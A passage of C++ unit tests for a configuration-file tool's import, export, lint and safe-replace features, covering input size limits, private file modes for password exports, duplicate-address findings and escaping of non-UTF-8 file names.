    const fleet::ImportPlan plan = fleet::planImport(
        csv, d, [](const std::string& p, std::string&) { return std::optional(slurp(p)); }, {});
    ASSERT_EQ(plan.refusals.size(), fleet::kRefusalLimit);
    EXPECT_EQ(plan.moreRefusals, 3000 - fleet::kRefusalLimit);
    for (std::size_t k = 0; k < plan.refusals.size(); ++k) {
        EXPECT_EQ(plan.refusals[k].row, static_cast<int>(k) + 2);
        EXPECT_EQ(plan.refusals[k].needsForce, k % 2 == 1) << k;
    }
    const Result r = runCli({"import", "-", "-d", d}, csv);
    EXPECT_EQ(r.err,
              "orbcfg-cli: (stdin): row 2, column 2 (AUTOSTART): AUTOSTART takes on or off; "
              "and 2999 more refusal(s); nothing written\n");

    // A header is refused at its first bad column, however many follow.
    std::string header = "name";
    for (int i = 0; i < 100000; ++i) header += ",";
    const fleet::ImportPlan wide = fleet::planImport(header + "\nt,\n", d, nullptr, {});
    ASSERT_EQ(wide.refusals.size(), 1u);
    EXPECT_EQ(wide.moreRefusals, 0u);
    EXPECT_EQ(wide.refusals[0].column, 2);
    EXPECT_EQ(reasonText(wide.refusals[0]), "an empty header");
    // A row of many commas under a good header is no refusal; a cell far past its last column is.
    TempDir empty;
    const std::string commas(100000, ',');
    const fleet::ImportPlan many = fleet::planImport(
        "name,USERN\nt1,u" + commas + "\nt2" + commas + "x\n", empty.path().string(), nullptr, {});
    ASSERT_EQ(many.refusals.size(), 1u);
    EXPECT_EQ(many.refusals[0].row, 3);
    EXPECT_EQ(many.refusals[0].column, 100001);
    EXPECT_EQ(reasonText(many.refusals[0]), "a cell beyond the last column");
}

TEST(Fleet, ImportRefusesACsvLargerThan16MiB) {
    TempDir dir;
    std::string csv = "name,USERN\n";
    csv.resize(fileio::kInputLimit + 1, ',');
    spit(dir / "big.csv", csv);
    Result r = runCli({"import", dir / "big.csv", "-d", dir.path().string()});
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.err, "orbcfg-cli: " + dir / "big.csv" +
                         " is larger than 16 MiB: too large a CSV to import\n");
    r = runCli({"import", "-", "-d", dir.path().string()}, csv);
    EXPECT_EQ(r.err, "orbcfg-cli: (stdin) is larger than 16 MiB: too large a CSV to import\n");
    EXPECT_EQ(dir.names(), std::vector<std::string>{"big.csv"});
}

#ifndef _WIN32
TEST(Fleet, ExportOfPasswordsIsPrivateAndSaysSo) {
    const struct Umask {
        mode_t old = ::umask(022);
        ~Umask() { ::umask(old); }
    } umask;
    TempDir dir, out;
    const std::string d = dir.path().string();
    const auto modeOf = [](const std::string& path) {
        struct stat st;
        return ::stat(path.c_str(), &st) == 0 ? st.st_mode & 0777 : 0u;
    };
    spit(dir / "a.cfg", "USERN='a'\r\nPASSW='p1'\r\n");
    spit(dir / "b.cfg", "USERN='b'\r\nVNCPASSWD='p2'\r\nWKEY='k'\r\nPASSW=''\r\n");
    Result r = runCli({"export", d, "-o", out / "all.csv"});
    EXPECT_EQ(r.code, 0);
    EXPECT_EQ(r.err, "orbcfg-cli: '" + out / "all.csv" +
                         "' holds 3 password cell(s) (PASSW, VNCPASSWD, WKEY)\n");
    EXPECT_EQ(modeOf(out / "all.csv"), 0600u);
    r = runCli({"export", d});
    EXPECT_EQ(r.err,
              "orbcfg-cli: standard output holds 3 password cell(s) (PASSW, VNCPASSWD, "
              "WKEY)\n");
    // An existing file keeps its mode, as every replaced file does.
    spit(out / "kept.csv", "");
    ::chmod((out / "kept.csv").c_str(), 0644);
    ASSERT_EQ(runCli({"export", d, "-o", out / "kept.csv"}).code, 0);
    EXPECT_EQ(modeOf(out / "kept.csv"), 0644u);

    // Without passwords: the narrowest mode of the files, and nothing said.
    TempDir plain;
    spit(plain / "a.cfg", "USERN='a'\r\n");
    spit(plain / "b.cfg", "USERN='b'\r\n");
    ::chmod((plain / "a.cfg").c_str(), 0640);
    ::chmod((plain / "b.cfg").c_str(), 0604);
    r = runCli({"export", plain.path().string(), "-o", out / "plain.csv"});
    EXPECT_EQ(r.err, "");
    EXPECT_EQ(modeOf(out / "plain.csv"), 0600u);
    ::chmod((plain / "b.cfg").c_str(), 0644);
    ASSERT_EQ(runCli({"export", plain.path().string(), "-o", out / "group.csv"}).code, 0);
    EXPECT_EQ(modeOf(out / "group.csv"), 0640u);
}
#endif

// Many files that share one address: each finding names three of the others and counts the
// rest, the JSON holds the whole group once; the output grows with the files, not with their
// square.
TEST(Fleet, LintOfManySharersNamesAFewAndCountsTheRest) {
    TempDir dir;
    for (int i = 1; i <= 6; ++i)
        spit(dir / ("t" + std::to_string(i) + ".cfg"), "USERN='u'\r\nIP='10.0.5.12'\r\n");
    spit(dir / "u.cfg", "IP='10.0.5.13'\r\nMNAME='one'\r\n");
    spit(dir / "v.cfg", "MNAME='ONE'\r\n");
    Result r = runCli({"lint", dir.path().string()});
    EXPECT_EQ(r.code, 1);
    EXPECT_EQ(r.out,
              "t1.cfg:2: duplicate-ip: IP: '10.0.5.12' is also set by t2.cfg, t3.cfg, t4.cfg "
              "and 2 more\n"
              "t2.cfg:2: duplicate-ip: IP: '10.0.5.12' is also set by t1.cfg, t3.cfg, t4.cfg "
              "and 2 more\n"
              "t3.cfg:2: duplicate-ip: IP: '10.0.5.12' is also set by t1.cfg, t2.cfg, t4.cfg "
              "and 2 more\n"
              "t4.cfg:2: duplicate-ip: IP: '10.0.5.12' is also set by t1.cfg, t2.cfg, t3.cfg "
              "and 2 more\n"
              "t5.cfg:2: duplicate-ip: IP: '10.0.5.12' is also set by t1.cfg, t2.cfg, t3.cfg "
              "and 2 more\n"
              "t6.cfg:2: duplicate-ip: IP: '10.0.5.12' is also set by t1.cfg, t2.cfg, t3.cfg "
              "and 2 more\n"
              "u.cfg:2: duplicate-name: MNAME: 'one' is also set by v.cfg\n"
              "v.cfg:1: duplicate-name: MNAME: 'ONE' is also set by u.cfg\n");
    r = runCli({"lint", dir.path().string(), "--format", "json"});
    EXPECT_NE(r.out.find("\"code\": \"duplicate-name\", \"message\": \"'ONE' is also set by "
                         "u.cfg\", \"group\": 1}"),
              std::string::npos)
        << r.out;
    EXPECT_TRUE(r.out.ends_with(
        "], \"groups\": [\n"
        "[\"t1.cfg\", \"t2.cfg\", \"t3.cfg\", \"t4.cfg\", \"t5.cfg\", \"t6.cfg\"],\n"
        "[\"u.cfg\", \"v.cfg\"]\n]}\n"))
        << r.out;

    // The model: every finding keeps its group and what the files share; the messages stay
    // short however large the group.
    std::vector<fleet::Record> records(5000);
    for (std::size_t i = 0; i < records.size(); ++i) {
        records[i].file = "t" + std::to_string(10000 + i) + ".cfg";
        records[i].ip = "10.0.5.12";
        records[i].ipLine = 1;
    }
    const fleet::Cross cross = fleet::crossFindings(records);
    ASSERT_EQ(cross.findings.size(), records.size());
    ASSERT_EQ(cross.groups.size(), 1u);
    EXPECT_EQ(cross.groups[0].size(), records.size());
    std::size_t text = 0;
    for (const fleet::Finding& f : cross.findings) {
        EXPECT_EQ(f.group, 0u);
        EXPECT_EQ(f.value, "10.0.5.12");
        text += fleet::message(f, records, cross.groups).size();
    }
    EXPECT_LT(text, records.size() * 100);
    EXPECT_EQ(fleet::message(cross.findings[4], records, cross.groups),
              "'10.0.5.12' is also set by t10000.cfg, t10001.cfg, t10002.cfg and 4,996 more");
}

// A file with more findings than a record holds is checked again as its findings go out: the
// same findings in the same order, with those across files in their places among them.
TEST(Fleet, LintOfAFileOfManyBadLinesKeepsItsOrder) {
    TempDir dir;
    std::string many;
    for (int i = 1; i <= 1000; ++i) many += i == 600 ? "IP='10.0.0.1'\r\n" : "bad\r\n";
    spit(dir / "a.cfg", many);
    spit(dir / "b.cfg", "IP='10.0.0.1'\r\nbad\r\n");
    const Result r = runCli({"lint", dir.path().string()});
    EXPECT_EQ(r.code, 1);
    std::string expected;
    for (int i = 1; i <= 1000; ++i)
        expected += i == 600 ? "a.cfg:600: duplicate-ip: IP: '10.0.0.1' is also set by b.cfg\n"
                             : "a.cfg:" + std::to_string(i) +
                                   ": ignored-line: not a KEY='value' line; ignored\n";
    expected +=
        "b.cfg:1: duplicate-ip: IP: '10.0.0.1' is also set by a.cfg\n"
        "b.cfg:2: ignored-line: not a KEY='value' line; ignored\n";
    EXPECT_EQ(r.out, expected);
    // The fleet the window loads holds them all.
    std::string error;
    const auto fleet = fleet::load(
        dir.path().string(),
        [](const std::string& path, std::string& why) -> std::optional<std::string> {
            why.clear();
            return slurp(path);
        },
        {}, error);
    ASSERT_TRUE(fleet);
    EXPECT_EQ(fleet->records[0].findings.size(), 999u);
    EXPECT_EQ(fleet->findings.size(), 1002u);
}

// Leftover temporary files of a replace are findings of their own, in the subfolders too.
TEST(Fleet, LintNamesLeftoverTemporaryFiles) {
    TempDir dir;
    spit(dir / "a.cfg", "USERN='a'\r\n");
    spit(dir / ".orbcfg-k3j9x0qa", "USERN='half'");
    spit(dir / ".orbcfg-short", "");  // not a name a replace gives
    fs::create_directory(dir / "sub");
    spit(dir / "sub/.orbcfg-00000000", "");
    Result r = runCli({"lint", dir.path().string()});
    EXPECT_EQ(r.code, 1);
    const std::string message =
        "temporary-file: a temporary file of a replace that did not end (the program was "
        "stopped); the file it was to replace is whole, and this one may be removed\n";
    EXPECT_EQ(r.out, ".orbcfg-k3j9x0qa: " + message);
    r = runCli({"lint", "-r", dir.path().string()});
    EXPECT_EQ(r.out, ".orbcfg-k3j9x0qa: " + message + "sub/.orbcfg-00000000: " + message);
    fs::remove(dir / ".orbcfg-k3j9x0qa");
    fs::remove(dir / "sub/.orbcfg-00000000");
    EXPECT_EQ(runCli({"lint", "-r", dir.path().string()}).code, 0);
}

#ifndef _WIN32
// A name that is not UTF-8 is printed escaped, never read as another encoding: the two files
// below stay two in both outputs.
TEST(Fleet, LintEscapesNamesThatAreNotUtf8) {
    TempDir dir;
    spit(dir.path() / "\xff\xfe.cfg", "IP='10.0.0.1'\r\n");
    spit(dir.path() / "яю.cfg", "IP='10.0.0.1'\r\n");
    spit(dir.path() / "back\\slash\x01.cfg", "bad\r\n");
    Result r = runCli({"lint", dir.path().string()});
    EXPECT_EQ(r.out,
              "back\\\\slash\\x01.cfg:1: ignored-line: not a KEY='value' line; ignored\n"
              "яю.cfg:1: duplicate-ip: IP: '10.0.0.1' is also set by \\xff\\xfe.cfg\n"
              "\\xff\\xfe.cfg:1: duplicate-ip: IP: '10.0.0.1' is also set by яю.cfg\n");
    r = runCli({"lint", dir.path().string(), "--format", "json"});
    EXPECT_NE(r.out.find("{\"file\": \"\\\\xff\\\\xfe.cfg\", \"line\": 1"), std::string::npos)
        << r.out;
    EXPECT_NE(r.out.find("{\"file\": \"back\\\\\\\\slash\\\\x01.cfg\""), std::string::npos)
        << r.out;
    EXPECT_TRUE(r.out.ends_with("[\"яю.cfg\", \"\\\\xff\\\\xfe.cfg\"]\n]}\n")) << r.out;

    EXPECT_EQ(text::escapedName("плain.cfg"), "плain.cfg");
    EXPECT_EQ(text::escapedName("a\nb\x7f\\"), "a\\x0ab\\x7f\\\\");
    EXPECT_EQ(text::escapedName("\xd0"), "\\xd0");           // a cut character
    EXPECT_EQ(text::escapedName("\xc0\xaf"), "\\xc0\\xaf");  // an overlong "/"
    EXPECT_EQ(text::escapedName("\\xff"), "\\\\xff");        // the escape's own spelling
}

// A subfolder that cannot be listed is named, the rest is reported, and the exit says so.
TEST(Fleet, LintNamesAnUnreadableSubfolderAndReportsTheRest) {
    if (::geteuid() == 0) GTEST_SKIP() << "root reads every folder";
    TempDir dir;
    spit(dir / "a.cfg", "bad\r\n");
    fs::create_directories(dir.path() / "r" / "inner");
    spit(dir / "r/inner/b.cfg", "bad\r\n");
    fs::create_directory(dir.path() / "s");
    spit(dir / "s/c.cfg", "bad\r\n");
    fs::permissions(dir.path() / "r", fs::perms::none);
    const Result r = runCli({"lint", "-r", dir.path().string()});
    fs::permissions(dir.path() / "r", fs::perms::owner_all);
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.err, "orbcfg-cli: cannot read folder '" + (dir / "r") + "': Permission denied\n");
    EXPECT_EQ(r.out,
              "a.cfg:1: ignored-line: not a KEY='value' line; ignored\n"
              "s/c.cfg:1: ignored-line: not a KEY='value' line; ignored\n");
}
#endif

// The plan's files replaced as the tool and the window replace them: a new file never takes the
// name of one another program made, a changed one only while it holds what the plan read; the
// failure names the file in the caller's words, and the other writer's bytes stay.
TEST(FleetDisk, ReplacePlannedKeepsAnotherWritersFilesAndWordsTheReason) {
    TempDir dir;
    spit(dir / "new.cfg", "theirs");
    spit(dir / "old.cfg", "read");
    const std::vector<fleet::FileBytes> asNew{{dir / "new.cfg", "ours", fleet::Status::New}};
    fleet::BatchFailure failure;
    EXPECT_FALSE(fleet::replacePlanned(asNew, failure, fileio::russianReason));
    EXPECT_EQ(failure.failed, 0u);
    EXPECT_EQ(failure.renamed, 0u);
    EXPECT_EQ(failure.reason, "файл создан другой программой после чтения");
    EXPECT_EQ(slurp(dir / "new.cfg"), "theirs");

    const std::vector<fleet::FileBytes> changed{
        {dir / "fresh.cfg", "a", fleet::Status::New},
        {dir / "old.cfg", "b", fleet::Status::Changed, "not what it holds"}};
    EXPECT_FALSE(fleet::replacePlanned(changed, failure, fleet::englishReason));
    EXPECT_EQ(failure.failed, 1u);
    EXPECT_FALSE(failure.reason.empty());
    EXPECT_EQ(failure.reason.find("файл"), std::string::npos) << failure.reason;
    EXPECT_EQ(failure.renamed, 1u);  // fresh.cfg, for the caller to put back
    EXPECT_EQ(slurp(dir / "old.cfg"), "read");
    fs::remove(dir.path() / "fresh.cfg");

    const std::vector<fleet::FileBytes> asRead{
        {dir / "fresh.cfg", "a", fleet::Status::New},
        {dir / "old.cfg", "b", fleet::Status::Changed, "read"}};
    EXPECT_TRUE(fleet::replacePlanned(asRead, failure, fileio::russianReason));
    EXPECT_EQ(slurp(dir / "fresh.cfg"), "a");
    EXPECT_EQ(slurp(dir / "old.cfg"), "b");
}

// A folder's file is read only when it is a regular file; the reason is in the caller's words.
TEST(FleetDisk, ReadFolderFileRefusesAFolderInTheCallersWords) {
    TempDir dir;
    fs::create_directory(dir.path() / "sub.cfg");
    spit(dir / "a.cfg", "A='1'\r\n");
    std::string error;
    EXPECT_EQ(fleet::readFolderFile(dir / "a.cfg", error, fileio::russianReason), "A='1'\r\n");
    EXPECT_FALSE(fleet::readFolderFile(dir / "sub.cfg", error, fileio::russianReason));
    EXPECT_EQ(error, "это папка, а не файл");
    EXPECT_FALSE(fleet::readFolderFile(dir / "sub.cfg", error, fleet::englishReason));
    EXPECT_EQ(error.find("папка"), std::string::npos) << error;
}
